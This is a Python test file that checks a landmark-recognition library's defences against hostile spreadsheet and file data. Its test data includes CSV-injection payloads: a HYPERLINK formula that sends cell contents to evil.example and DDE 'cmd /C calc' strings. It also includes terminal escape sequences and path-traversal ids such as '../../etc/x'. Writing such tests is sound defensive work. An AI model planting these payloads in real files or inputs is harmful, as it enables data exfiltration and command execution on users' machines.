"""Files a user's spreadsheet produces (issue 33, finding 9), read and written by the library:
Excel's BOM read as the same table, a malformed file refused naming its line, formula cells
quoted in every CSV we write and read back as they were, escape sequences kept off the
terminal, GLDv2 ids that would leave the image folder refused before any file is touched.
References are written by hand or read with the plain `csv` module."""

import builtins
import csv
import os

import numpy as np
import pytest

from landmark_jax.data import GLDv2Source
from landmark_jax.data.tables import read_clean_csv, read_csv, read_csv_columns, read_landmark_table
from landmark_jax.errors import DataError
from landmark_jax.eval.report import write_predictions
from landmark_jax.eval.scoring import ScoredPhotos, load_locations
from landmark_jax.index.landmarks import LandmarkInfo, load_landmarks_csv, save_landmarks_csv
from landmark_jax.text import printable, spreadsheet_cell, unquote_cell

# Names a spreadsheet would run as formulas, and what each cell must hold (by hand).
FORMULAS = {
  '=HYPERLINK("http://evil.example/?"&A1,"x")': '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
  "-x": "'-x",
  "@SUM(A1:A9)": "'@SUM(A1:A9)",
  "\tTAB": "'\tTAB",
  "'=quoted already": "''=quoted already",  # one more quote, so it reads back as it was
  "-33.8": "-33.8",  # a number: no formula, nothing added
  "+1": "+1",
  "it's fine": "it's fine",
  "Sacré-Cœur": "Sacré-Cœur",
}


def raw_cells(path) -> list[list[str]]:
  with open(path, newline="", encoding="utf-8") as f:
    return list(csv.reader(f))


def test_spreadsheet_cell_quotes_formulas_only_and_unquote_gives_them_back():
  assert {text: spreadsheet_cell(text) for text in FORMULAS} == FORMULAS
  assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(None) is None  # not text
  for text in [*FORMULAS, "'", "''", "'hello", "''-x", "", "'-33.8"]:
    assert unquote_cell(spreadsheet_cell(text)) == text
  assert unquote_cell("'hello") == "'hello"  # a quote we did not add stays


def test_printable_writes_control_characters_as_escapes():
  text = "Tour\x1b]0;pwned\x07 Eiffel\x1b[2J\x9b31m\tok\r\n\x00\x7f é"
  assert printable(text) == r"Tour\x1b]0;pwned\x07 Eiffel\x1b[2J\x9b31m\x09ok\x0d\x0a\x00\x7f é"
  assert printable(42) == "42"


def test_landmarks_csv_quotes_formula_names_and_reads_them_back(tmp_path):
  table = {i: LandmarkInfo(name, category=name) for i, name in enumerate(FORMULAS)}
  table["=folder"] = LandmarkInfo("=folder")  # a folder landmark's id is text too
  save_landmarks_csv(table, tmp_path / "landmarks.csv")
  rows = raw_cells(tmp_path / "landmarks.csv")[1:]
  assert [row[1] for row in rows] == [*FORMULAS.values(), "'=folder"]
  assert [row[4] for row in rows[:-1]] == list(FORMULAS.values())
  assert rows[-1][0] == "'=folder"
  # Read back as they were (names are stripped on reading, as they always were).
  stripped = {
    lid: LandmarkInfo(info.name.strip(), category=info.category and info.category.strip())
    for lid, info in table.items()
  }
  assert load_landmarks_csv(tmp_path / "landmarks.csv") == stripped


def test_predictions_csv_quotes_formula_cells_and_read_csv_reads_them_back(tmp_path):
  scored = ScoredPhotos(
    ids=["=cmd|' /C calc'!A0", "photo2"],
    truth=["@SUM(A1)", None],
    nearest=["-x", "sacre_coeur"],
    scores=np.array([0.9, 0.2]),
  )
  write_predictions(scored, 0.5, tmp_path / "predictions.csv")
  rows = raw_cells(tmp_path / "predictions.csv")
  assert rows[1][:3] == ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'-x"]
  assert rows[2][:3] == ["photo2", "", "sacre_coeur"]
  read = read_csv(tmp_path / "predictions.csv", ["id", rows[0][1], rows[0][2]])
  assert [[row[c] for c in rows[0][:3]] for row in read] == [
    ["=cmd|' /C calc'!A0", "@SUM(A1)", "-x"],
    ["photo2", "", "sacre_coeur"],
  ]


def test_a_bom_is_skipped_and_the_table_is_the_same(tmp_path):
  text = "landmark_id,name,latitude,longitude\n7,Sacré-Cœur,48.88671,2.34305\n"
  (tmp_path / "plain.csv").write_bytes(text.encode("utf-8"))
  (tmp_path / "excel.csv").write_bytes(text.encode("utf-8-sig"))
  assert load_landmarks_csv(tmp_path / "excel.csv") == load_landmarks_csv(tmp_path / "plain.csv")
  assert load_landmarks_csv(tmp_path / "excel.csv") == {
    7: LandmarkInfo("Sacré-Cœur", 48.88671, 2.34305)
  }
  columns = ["landmark_id", "name"]
  assert read_csv_columns(tmp_path / "excel.csv", columns) == {
    "landmark_id": ["7"],
    "name": ["Sacré-Cœur"],
  }


def test_cp1252_is_refused_naming_line_and_byte(tmp_path):
  (tmp_path / "t.csv").write_bytes("id,landmark_id\nabc,1\ncaf\xe9,2\n".encode("cp1252"))
  with pytest.raises(DataError) as error:
    read_csv_columns(tmp_path / "t.csv", ["id", "landmark_id"])
  # "caf" is 3 bytes into line 3, which starts after 15 + 6 bytes
  assert f"{tmp_path / 't.csv'} line 3: not UTF-8 (byte 0xE9 at offset 24)" in str(error.value)
  assert "CSV UTF-8" in str(error.value)


def test_malformed_quotes_and_huge_cells_are_refused_naming_the_line(tmp_path):
  path = tmp_path / "t.csv"
  path.write_text('id,landmark_id\nabc,1\n"def,2\nghi,3\n')
  with pytest.raises(DataError, match="line 3: a quote opened in this row is never closed"):
    read_csv_columns(path, ["id", "landmark_id"])
  # A quote closed two lines later: valid CSV, but the id cell now spans three rows.
  path.write_text('id,landmark_id\nabc,1\n"def,2\nghi",3\njkl,4\n')
  with pytest.raises(DataError, match=r"row 3 has a line break in its id cell \('def"):
    read_csv_columns(path, ["id", "landmark_id"])
  path.write_text("id,landmark_id\nabc," + "1" * (2 << 20) + "\n")
  with pytest.raises(DataError, match="line 2: a cell of more than 1,048,576 characters"):
    read_csv(path, ["id", "landmark_id"])


def test_a_clean_csv_cell_over_csvs_default_limit_reads(tmp_path):
  images = [f"{i:016x}" for i in range(12_000)]  # 203,999 characters: over 131,072
  (tmp_path / "clean.csv").write_text(f"landmark_id,images\n5,{' '.join(images)}\n")
  assert read_clean_csv(tmp_path / "clean.csv") == dict.fromkeys(images, 5)


def test_read_landmark_table_refuses_a_landmark_with_two_rows(tmp_path):
  path = tmp_path / "categories.csv"
  path.write_text("landmark_id,category\n1,church\n2,museum\n1,museum\n")
  with pytest.raises(DataError, match="1 landmark_id.s. have several rows.*: 1; give each"):
    read_landmark_table(path, "category")
  path.write_text("landmark_id,category\n1,church\n2,museum\n")
  assert read_landmark_table(path, "category") == {1: "church", 2: "museum"}


@pytest.mark.parametrize("value", ["abc", "nan", "inf", "-Infinity"])
def test_a_coordinate_that_is_no_number_is_refused_naming_line_and_column(tmp_path, value):
  path = tmp_path / "landmarks.csv"
  path.write_text(f"landmark_id,name,latitude,longitude\n1,a,1.5,2.5\n2,b,48.0,{value}\n")
  with pytest.raises(DataError, match=f"line 3: longitude '{value}' is not a number"):
    load_landmarks_csv(path)
  path = tmp_path / "locations.csv"
  path.write_text(f"id,latitude,longitude\np1,{value},2.0\n")
  with pytest.raises(DataError, match=f"photo p1: latitude '{value}' is not a number"):
    load_locations(path)


@pytest.mark.parametrize("bad_id", ["../../etc/x", "..\\..\\etc\\x", ".hidden", "ab\0c"])
def test_gldv2_ids_that_leave_the_image_folder_are_refused_before_any_file_is_opened(
  tmp_path, monkeypatch, bad_id
):
  root = tmp_path / "gldv2"
  (root / "train").mkdir(parents=True)
  with open(root / "train.csv", "w", newline="") as f:
    rows = [["id", "url", "landmark_id"], ["0123abcd", "", "1"], [bad_id, "", "2"]]
    csv.writer(f).writerows(rows)
  touched = []
  real_isfile, real_open = os.path.isfile, builtins.open
  monkeypatch.setattr(os.path, "isfile", lambda p: touched.append(str(p)) or real_isfile(p))
  monkeypatch.setattr(
    builtins, "open", lambda p, *a, **k: touched.append(str(p)) or real_open(p, *a, **k)
  )
  with pytest.raises(DataError, match="1 photo id.s. are no file name") as error:
    GLDv2Source(root)
  assert repr(bad_id) in str(error.value)
  assert touched == [str(root / "train.csv")]  # the CSV itself, and no photo
